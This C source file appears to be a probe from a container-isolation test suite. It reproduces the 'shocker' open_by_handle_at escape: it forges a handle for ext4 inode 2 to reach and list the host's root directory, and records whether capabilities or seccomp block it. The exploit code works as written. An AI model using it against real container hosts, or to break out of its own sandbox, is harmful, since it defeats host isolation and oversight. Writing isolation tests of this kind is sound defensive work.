/* open_by_handle_at, the "shocker" escape (Docker 2014): a file handle names
 * an inode on a file system directly, without a path, so a handle for inode
 * 2 (the root of an ext4 file system) opened relative to any mount of that
 * file system (/usr is a bind from the host's root disk) reaches the host's
 * whole root directory. Needs CAP_DAC_READ_SEARCH; on the default profile's
 * deny list. Layers: caps (EPERM), seccomp (EPERM). */
#define TECH "open_by_handle_at"
#include <dirent.h>

#include "escape.h"

struct esc_handle {
  unsigned int handle_bytes;
  int handle_type;
  unsigned char f_handle[8];
};

int main(void) {
  struct esc_log log = {0};
  int mount_fd = open("/usr", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (mount_fd < 0) setup_error("open /usr: %s", errname(errno));

  // A genuine handle first, to show that the file system supports handles
  // (name_to_handle_at itself is not privileged).
  struct {
    unsigned int handle_bytes;
    int handle_type;
    unsigned char f_handle[128];
  } real;
  memset(&real, 0, sizeof real);
  real.handle_bytes = sizeof real.f_handle;
  int mount_id = 0;
  if (syscall(SYS_name_to_handle_at, AT_FDCWD, "/usr", &real, &mount_id, 0) == 0)
    esc_logf(&log, "name_to_handle_at(/usr): type %d, %u bytes", real.handle_type, real.handle_bytes);
  else
    esc_logf(&log, "name_to_handle_at(/usr): %s", errname(errno));

  // The shocker handle: FILEID_INO32_GEN {ino 2, generation 0}, the root
  // directory of ext2/3/4.
  struct esc_handle h;
  memset(&h, 0, sizeof h);
  h.handle_bytes = 8;
  h.handle_type = 1;
  unsigned int ino = 2, gen = 0;
  memcpy(h.f_handle, &ino, 4);
  memcpy(h.f_handle + 4, &gen, 4);
  int fd = (int)syscall(SYS_open_by_handle_at, mount_fd, &h, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (fd >= 0) {
    char names[256] = "";
    DIR* d = fdopendir(fd);
    struct dirent* de;
    size_t len = 0;
    while (d != NULL && (de = readdir(d)) != NULL && len < sizeof names - 40) {
      if (de->d_name[0] == '.') continue;
      len += (size_t)snprintf(names + len, sizeof names - len, "%s ", de->d_name);
    }
    escaped("open_by_handle_at(inode 2) opened the root directory of /usr's file system: %s", names);
  }
  int e = errno;
  // The privilege check comes first; ESTALE & co. mean it passed and only
  // the handle did not resolve (e.g. outside the subtree the kernel's
  // relaxed, namespace-aware check allows).
  if (!errno_in(e, EPERM, EACCES, ENOSYS, 0))
    escaped("open_by_handle_at(inode 2): %s - the privilege check passed", errname(e));
  esc_logf(&log, "open_by_handle_at(ext4 root inode 2): %s", errname(e));

  // The genuine handle of /usr itself, when we have one.
  if (real.handle_bytes > 0 && real.handle_bytes <= sizeof real.f_handle && real.handle_type != 0) {
    fd = (int)syscall(SYS_open_by_handle_at, mount_fd, &real, O_RDONLY | O_CLOEXEC);
    if (fd >= 0) escaped("open_by_handle_at accepted a file handle");
    e = errno;
    if (!errno_in(e, EPERM, EACCES, ENOSYS, 0))
      escaped("open_by_handle_at(handle of /usr): %s - the privilege check passed", errname(e));
    esc_logf(&log, "open_by_handle_at(handle of /usr): %s", errname(e));
  }
  blocked("%s", log.text);
}
